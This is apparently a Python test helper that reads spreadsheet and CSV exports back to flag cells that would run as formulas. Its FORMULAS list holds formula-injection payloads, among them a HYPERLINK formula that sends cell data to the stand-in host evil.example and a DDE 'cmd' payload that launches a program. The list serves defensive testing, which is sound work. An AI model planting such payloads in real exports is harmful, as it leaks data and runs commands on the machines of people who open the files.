"""Reading exports back the way a spreadsheet would, to count cells that would run as formulas."""

import csv
import io

from openpyxl import load_workbook

# What attackers type into forms and files (issue 11): each would run in Excel, WPS or LibreOffice.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
RUNS = ("=", "+", "-", "@", "\t", "\r")


def live_in_xlsx(content: bytes) -> list:
    """Cells of every sheet that are formulas, or text a spreadsheet would read as one."""
    book = load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(RUNS))
    ]


def live_in_csv(text: str) -> list:
    return [
        cell
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
        for cell in row
        if cell.startswith(RUNS)
    ]


def csv_cells(text: str) -> list:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for cell in row]
